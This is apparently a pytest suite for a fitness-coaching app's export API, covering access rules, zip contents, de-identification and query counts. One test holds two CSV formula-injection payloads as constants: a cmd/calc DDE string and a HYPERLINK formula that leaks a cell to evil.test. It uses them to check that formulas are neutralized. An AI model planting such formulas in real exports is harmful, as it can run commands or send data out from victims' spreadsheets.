"""Exports through the API: who may take them, what the zip holds, and a constant query count."""

import csv
import io
import json
import uuid
import zipfile
from datetime import UTC, datetime, timedelta

import pytest
from django.utils import timezone

from coaching.models import Organization
from programs.models import SetLog, WorkoutLog
from reporting.core import export_core
from tests.factories import (
    CheckInFactory,
    ClientFactory,
    ExerciseFactory,
    IntakeFactory,
    ReviewItemFactory,
    build_history,
)
from triage.models import CheckIn

pytestmark = pytest.mark.django_db


def export_url(org):
    return f"/api/v1/orgs/{org.slug}/export/"


def deidentified_url(org):
    return f"/api/v1/orgs/{org.slug}/export/deidentified/"


def my_export_url(org):
    return f"/api/v1/orgs/{org.slug}/me/export/"


def open_zip(response) -> zipfile.ZipFile:
    return zipfile.ZipFile(io.BytesIO(b"".join(response.streaming_content)))


def csv_rows(archive, name) -> list[dict]:
    return list(csv.DictReader(io.StringIO(archive.read(f"{name}.csv").decode())))


def json_rows(archive, name) -> list[dict]:
    return json.loads(archive.read(f"{name}.json"))


def give_history(client, today=None, with_text=True):
    today = today or timezone.localdate()
    exercise = ExerciseFactory(key="back-squat", name="Back Squat")
    build_history(client, days=14, today=today, exercise=exercise)
    org = client.organization
    IntakeFactory(
        organization=org,
        client=client,
        version=1,
        status="approved",
        goals=["strength"],
        goal_notes=f"notes of {client.user.name}" if with_text else "",
        injuries=[{"area": "knee", "notes": "clicks on stairs", "current": True}],
        age_years=34,
    )
    check_in = CheckInFactory(
        organization=org,
        client=client,
        readiness=2,
        sleep_quality=3,
        soreness=4,
        fatigue=4,
        stress=4,
        mood=2,
        notes="my back hurts after deadlifts" if with_text else "",
        extra_answers={"1": "4", "2": "my manager is awful"},
        level="yellow",
    )
    ReviewItemFactory(
        organization=org,
        client=client,
        level="yellow",
        reason_kind="pain",
        source="checkin",
        check_in=check_in,
        due_at=timezone.now() + timedelta(hours=24),
        status="resolved",
        resolution="minor_change",
        message="Swap deadlifts for hip thrusts this week",
    )


def test_the_owner_downloads_a_zip_named_after_the_organization(api, org, owner):
    response = api(owner).get(export_url(org))

    assert response.status_code == 200
    assert response["Content-Type"] == "application/zip"
    assert response["Content-Disposition"].startswith('attachment; filename="spotter-northside-')
    assert response["Content-Disposition"].endswith('.zip"')


def test_the_zip_holds_a_csv_and_a_json_file_per_table_and_a_manifest(api, org, owner):
    archive = open_zip(api(owner).get(export_url(org)))

    expected = {f"{t.name}.{ext}" for t in export_core.TABLES for ext in ("csv", "json")}
    assert set(archive.namelist()) == expected | {"manifest.json"}


def test_the_manifest_names_the_organization_and_counts_each_file(api, org, owner, client_record):
    give_history(client_record)

    archive = open_zip(api(owner).get(export_url(org)))
    manifest = json.loads(archive.read("manifest.json"))

    assert manifest["organization"] == {"slug": "northside", "name": "Northside Strength"}
    assert manifest["kind"] == "full"
    assert manifest["generated_at"]
    logs = WorkoutLog.unscoped.filter(client=client_record).count()
    assert (
        manifest["files"]["workout_logs"]["rows"] == logs == len(csv_rows(archive, "workout_logs"))
    )
    assert manifest["files"]["set_logs"]["rows"] == SetLog.unscoped.count()
    names = [c["name"] for c in manifest["files"]["set_logs"]["columns"]]
    assert names == list(csv_rows(archive, "set_logs")[0])


def test_the_full_export_holds_names_emails_and_notes(api, org, owner, client_record):
    give_history(client_record)

    archive = open_zip(api(owner).get(export_url(org)))

    clients = csv_rows(archive, "clients")
    assert clients[0]["email"] == "client@north.test"
    assert "my back hurts after deadlifts" in [r["notes"] for r in json_rows(archive, "check_ins")]
    assert json_rows(archive, "review_items")[0]["message"].startswith("Swap deadlifts")
    assert json_rows(archive, "intakes")[0]["injuries"][0]["notes"] == "clicks on stairs"


def test_numbers_in_the_json_files_are_json_numbers(api, org, owner, client_record):
    give_history(client_record)

    archive = open_zip(api(owner).get(export_url(org)))

    assert isinstance(json_rows(archive, "set_logs")[0]["load_kg"], float)


def test_another_organizations_rows_are_not_in_the_export(api, org, other_org, owner):
    give_history(ClientFactory(organization=other_org, user__email="theirs@else.test"))

    archive = open_zip(api(owner).get(export_url(org)))

    assert archive.namelist()
    for name in archive.namelist():
        assert b"theirs@else.test" not in archive.read(name)
    assert csv_rows(archive, "workout_logs") == []


def test_a_coach_may_not_export_the_organization(api, org, coach):
    assert api(coach).get(export_url(org)).status_code == 403
    assert api(coach).get(deidentified_url(org)).status_code == 403


def test_a_client_may_not_export_the_organization(api, org, client_user):
    assert api(client_user).get(export_url(org)).status_code == 403


def test_an_outsider_gets_404(api, org, outsider):
    assert api(outsider).get(export_url(org)).status_code == 404


@pytest.mark.parametrize("clients", [5, 50])
def test_the_export_asks_a_constant_number_of_queries(
    api, org, owner, clients, django_assert_max_num_queries
):
    for _ in range(clients):
        give_history(ClientFactory(organization=org))
    caller = api(owner)

    # One query per table, plus the request's authentication, membership and tenant scope.
    # The rows are read as the zip streams: the count covers the whole download, with the
    # stream's own transaction and tenant scope (four statements on Postgres in a test).
    with django_assert_max_num_queries(len(export_core.TABLES) + 14):
        archive = open_zip(caller.get(export_url(org)))

    assert len(csv_rows(archive, "clients")) == clients


def test_a_deidentified_export_has_no_names_emails_or_free_text(api, org, owner, coach):
    clients = [
        ClientFactory(organization=org, coach=coach, user__email=f"person{i}@north.test")
        for i in range(3)
    ]
    for client in clients:
        give_history(client)
    secrets_in_data = [
        "north.test",
        "my back hurts",
        "my manager is awful",
        "clicks on stairs",
        "Swap deadlifts",
        *[c.user.name for c in clients],
    ]

    archive = open_zip(api(owner).get(deidentified_url(org)))

    assert archive.namelist()
    for name in archive.namelist():
        if name == "manifest.json":
            continue
        content = archive.read(name).decode()
        for secret in secrets_in_data:
            assert secret not in content, (name, secret)


def test_deidentified_keys_join_across_files_and_stay_the_same_across_exports(
    api, org, owner, client_record
):
    give_history(client_record)

    first = open_zip(api(owner).get(deidentified_url(org)))
    second = open_zip(api(owner).get(deidentified_url(org)))

    client_key = csv_rows(first, "clients")[0]["id"]
    assert str(client_record.pk) != client_key
    assert {row["client"] for row in csv_rows(first, "check_ins")} == {client_key}
    assert csv_rows(second, "clients")[0]["id"] == client_key
    assert {"1": 4} in [r["extra_answers"] for r in json_rows(first, "check_ins")]
    assert json_rows(first, "intakes")[0]["injuries"] == [{"area": "knee", "current": True}]


def test_the_salt_is_made_once_and_kept(api, org, owner):
    api(owner).get(deidentified_url(org))
    salt = Organization.objects.get(pk=org.pk).research_salt

    api(owner).get(deidentified_url(org))

    assert len(salt) == 64
    assert Organization.objects.get(pk=org.pk).research_salt == salt


def test_two_organizations_get_different_keys(api, org, other_org, owner, outsider):
    ours = ClientFactory(organization=org)
    theirs = ClientFactory(organization=other_org)
    assert ours.pk != theirs.pk

    our_keys = {
        r["id"] for r in csv_rows(open_zip(api(owner).get(deidentified_url(org))), "clients")
    }
    their_archive = open_zip(api(outsider).get(deidentified_url(other_org)))
    their_keys = {r["id"] for r in csv_rows(their_archive, "clients")}

    assert our_keys.isdisjoint(their_keys)


def test_the_deidentified_manifest_explains_the_method_and_lists_no_dropped_columns(
    api, org, owner
):
    manifest = json.loads(open_zip(api(owner).get(deidentified_url(org))).read("manifest.json"))

    assert manifest["kind"] == "deidentified"
    assert "HMAC-SHA256" in manifest["deidentification"]
    columns = {c["name"] for c in manifest["files"]["check_ins"]["columns"]}
    assert "notes" not in columns and "readiness" in columns


def test_a_client_downloads_only_their_own_records(api, org, coach, client_record):
    give_history(client_record)
    neighbour = ClientFactory(organization=org, coach=coach, user__email="neighbour@north.test")
    give_history(neighbour)

    response = api(client_record.user).get(my_export_url(org))
    archive = open_zip(response)

    assert response.status_code == 200
    assert f"-client-{client_record.pk}-" in response["Content-Disposition"]
    assert [r["id"] for r in csv_rows(archive, "clients")] == [str(client_record.pk)]
    for table in ("intakes", "programs", "planned_workouts", "workout_logs", "check_ins"):
        assert {r["client"] for r in csv_rows(archive, table)} == {str(client_record.pk)}, table
    own_logs = set(WorkoutLog.unscoped.filter(client=client_record).values_list("id", flat=True))
    assert {int(r["log"]) for r in csv_rows(archive, "set_logs")} <= own_logs
    assert (
        len(csv_rows(archive, "set_logs"))
        == SetLog.unscoped.filter(log__client=client_record).count()
    )
    assert archive.namelist()
    for name in archive.namelist():
        assert b"neighbour@north.test" not in archive.read(name)


def test_a_client_export_also_runs_a_constant_number_of_queries(
    api, org, client_record, django_assert_max_num_queries
):
    give_history(client_record)
    for _ in range(5):
        give_history(ClientFactory(organization=org))

    caller = api(client_record.user)

    with django_assert_max_num_queries(len(export_core.TABLES) + 14):
        response = caller.get(my_export_url(org))
        archive = open_zip(response)

    assert response.status_code == 200
    assert len(csv_rows(archive, "clients")) == 1


def test_staff_have_no_my_export(api, org, owner, coach):
    assert api(owner).get(my_export_url(org)).status_code == 403
    assert api(coach).get(my_export_url(org)).status_code == 403


def test_the_owner_home_offers_both_downloads(client, org, owner):
    client.force_login(owner)

    page = client.get(f"/o/{org.slug}/owner/").content.decode()

    assert "Your data" in page
    assert export_url(org) in page
    assert deidentified_url(org) in page


def test_the_client_home_offers_download_my_data(client, org, client_record):
    client.force_login(client_record.user)

    page = client.get(f"/o/{org.slug}/app/").content.decode()

    assert "Download my data" in page
    assert my_export_url(org) in page


def test_a_browser_session_may_download_the_export(client, org, owner):
    client.force_login(owner)

    response = client.get(export_url(org))

    assert response.status_code == 200
    assert response["Content-Type"] == "application/zip"


def test_asking_for_a_zip_by_accept_header_works(api, org, owner):
    response = api(owner).get(export_url(org), HTTP_ACCEPT="application/zip")

    assert response.status_code == 200


def test_a_refused_zip_request_still_answers_in_json(api, org, coach):
    response = api(coach).get(f"/api/v1/orgs/{org.slug}/export/?format=zip")

    assert response.status_code == 403
    assert response["Content-Type"] == "application/json"


FORMULA_NOTE = "=cmd|' /C calc'!A0"
FORMULA_NAME = '=HYPERLINK("http://evil.test/?leak="&A1,"Squat")'


def test_formulas_typed_by_people_are_neutralized_in_the_csv_and_kept_in_the_json(
    api, org, owner, client_record
):
    give_history(client_record)
    CheckIn.unscoped.filter(client=client_record).update(notes=FORMULA_NOTE)
    exercise = ExerciseFactory(key="evil", name=FORMULA_NAME, organization=org)
    SetLog.unscoped.filter(organization=org).update(exercise=exercise)

    archive = open_zip(api(owner).get(export_url(org)))

    assert {row["notes"] for row in csv_rows(archive, "check_ins")} == {"'" + FORMULA_NOTE}
    assert {row["notes"] for row in json_rows(archive, "check_ins")} == {FORMULA_NOTE}
    assert {row["exercise_name"] for row in csv_rows(archive, "set_logs")} == {"'" + FORMULA_NAME}
    assert {row["exercise_name"] for row in json_rows(archive, "set_logs")} == {FORMULA_NAME}


def test_negative_numbers_stay_numbers_in_the_csv(api, org, owner, client_record):
    give_history(client_record)
    SetLog.unscoped.filter(organization=org).update(load_kg=-20)  # an assisted movement

    archive = open_zip(api(owner).get(export_url(org)))

    assert {row["load_kg"] for row in csv_rows(archive, "set_logs")} == {"-20.0"}


def test_exported_sessions_and_check_ins_carry_the_clients_local_day(api, org, owner, coach):

    org.time_zone = "America/Los_Angeles"
    org.save(update_fields=["time_zone"])
    at_home = ClientFactory(organization=org, coach=coach)
    traveller = ClientFactory(organization=org, coach=coach, time_zone="Asia/Kolkata")
    saturday_3am_utc = datetime(2026, 11, 21, 3, 0, tzinfo=UTC)  # Friday 19:00 in Los Angeles
    for client in (at_home, traveller):
        WorkoutLog.unscoped.create(
            organization=org,
            client=client,
            client_uuid=uuid.uuid4(),
            performed_at=saturday_3am_utc,
            status="completed",
        )
        CheckInFactory(
            organization=org,
            client=client,
            created_at=saturday_3am_utc,
            readiness=4,
            sleep_quality=4,
            soreness=2,
            fatigue=2,
            stress=2,
            mood=4,
        )

    archive = open_zip(api(owner).get(export_url(org)))

    logs = {r["client"]: r["performed_on"] for r in csv_rows(archive, "workout_logs")}
    check_ins = {r["client"]: r["created_on"] for r in json_rows(archive, "check_ins")}
    expected = {str(at_home.pk): "2026-11-20", str(traveller.pk): "2026-11-21"}
    assert logs == expected
    assert {str(k): v for k, v in check_ins.items()} == expected
